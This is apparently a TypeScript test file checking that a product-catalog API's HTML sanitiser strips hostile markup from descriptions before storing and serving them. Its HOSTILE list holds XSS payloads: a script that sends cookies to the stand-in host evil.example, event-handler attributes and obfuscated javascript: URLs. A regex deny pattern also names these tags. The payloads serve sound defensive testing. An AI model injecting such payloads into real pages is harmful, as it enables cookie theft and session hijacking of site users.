import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as t from '../src/db/schema/index.js';
import type { App } from '../src/app.js';
import { ApiKeyService, type CreatedApiKey } from '../src/modules/api-keys/api-key-service.js';
import { sanitizeRichText } from '../src/modules/rich-text/sanitize.js';
import { aProduct } from './support/builders.js';
import { createTestDatabase, databaseKinds, type TestDatabase } from './support/database.js';
import { TEST_PEPPER, catalogCaughtUp, graphql, startTestApp } from './support/server.js';

const HOSTILE = [
  '<p onclick="steal()">Vers <strong>gebakken</strong></p>',
  '<script>fetch("//evil.example/"+document.cookie)</script>',
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="java\tscript:alert(2)">tab</a>',
  '<a href="JaVaScRiPt&colon;alert(3)">entity</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg><script>alert(4)</script></svg>',
  '<style>body{display:none}</style>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<div style="background:url(javascript:alert(5))">stijl</div>',
  '<ul><li>mayo</li><li><em>stoofvleessaus</em></li></ul>',
  '<h2>Allergenen</h2><a href="https://www.example.be/allergenen" title="info">lees meer</a><br>',
].join('');

/** What no stored description may contain, whatever the spelling. */
function expectClean(html: string) {
  expect(html).not.toMatch(/<script|<iframe|<svg|<style|\son\w+\s*=|javascript|data:|style=/i);
}

describe('sanitizeRichText', () => {
  it('keeps what descriptions need and drops the rest', () => {
    const clean = sanitizeRichText(HOSTILE);
    expectClean(clean);
    expect(clean).toContain('<p>Vers <strong>gebakken</strong></p>');
    expect(clean).toContain('<ul><li>mayo</li><li><em>stoofvleessaus</em></li></ul>');
    expect(clean).toContain('<h2>Allergenen</h2><a href="https://www.example.be/allergenen" title="info">lees meer</a><br />');
    expect(clean).toContain('<a>klik</a>');
    // A tag outside the list goes; its text stays.
    expect(clean).toContain('stijl');
  });
});

describe.each(databaseKinds)('rich text is stored clean (%s)', (kind) => {
  let testDb: TestDatabase;
  let app: App;
  let key: CreatedApiKey;

  beforeAll(async () => {
    testDb = await createTestDatabase(kind);
    key = await new ApiKeyService(testDb.database.db, () => TEST_PEPPER).create({ scope: 'read_write' });
    app = await startTestApp(testDb.database);
  });
  afterAll(async () => {
    await app.close();
    await testDb.cleanup();
  });

  it('a REST write of description and short_description with script, onerror= and javascript: URLs is stored clean', async () => {
    const product = await aProduct(testDb.database.db, { slug: 'bicky', name: { nl: 'Bicky' }, description: { nl: '<p>oud</p>', fr: '<p>ancien</p>' } });
    await catalogCaughtUp(app, testDb.database);
    const response = await app.server.inject({
      method: 'PUT',
      url: `/wp-json/wc/v3/products/${product.id}`,
      headers: { authorization: `Basic ${Buffer.from(`${key.consumerKey}:${key.consumerSecret}`).toString('base64')}`, 'content-type': 'application/json' },
      payload: JSON.stringify({ description: HOSTILE, short_description: '<b onmouseover="x()">Krokant</b><script>x()</script>' }),
    });
    expect(response.statusCode, response.body).toBe(200);
    expectClean(response.json().description);
    expect(response.json().short_description).toBe('<b>Krokant</b>');

    const [row] = await testDb.database.db.select().from(t.products).where(eq(t.products.id, product.id));
    expectClean(row!.description.nl!);
    expect(row!.description.nl).toContain('<strong>gebakken</strong>');
    expect(row!.shortDescription.nl).toBe('<b>Krokant</b>');
    // Other languages are left as they were.
    expect(row!.description.fr).toBe('<p>ancien</p>');

    await catalogCaughtUp(app, testDb.database);
    const read = await graphql(
      app,
      `
        {
          product(id: "bicky", idType: SLUG) {
            description
            shortDescription
          }
        }
      `,
    );
    expectClean(read.body.data.product.description);
    expect(read.body.data.product.shortDescription).toContain('Krokant');
  });
});
